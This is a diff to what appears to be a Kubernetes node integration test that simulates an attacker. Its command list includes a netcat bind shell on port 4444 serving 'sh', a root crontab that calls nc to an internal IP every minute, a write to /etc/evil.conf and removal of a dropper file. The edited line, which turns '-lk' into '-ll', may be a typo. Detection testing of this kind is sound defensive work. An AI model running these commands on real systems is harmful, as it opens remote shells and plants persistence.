@@ -90,7 +90,7 @@ describe.skipIf(unavailable)('the collection Job on a real node', () => {
       'sleep 0.5; rm -f /tmp/.dropper',
       'echo "nameserver 10.9.9.9" > /etc/evil.conf',
       'mkdir -p /var/spool/cron/crontabs && echo "* * * * * nc 10.244.0.250 9" > /var/spool/cron/crontabs/root',
-      'nc -lk -p 4444 -e sh &',
+      'nc -ll -p 4444 -e sh &',
       `nc ${peer.status!.podIP} 8080 &`,
       'echo attacker ready',
       'exec sleep 3600',
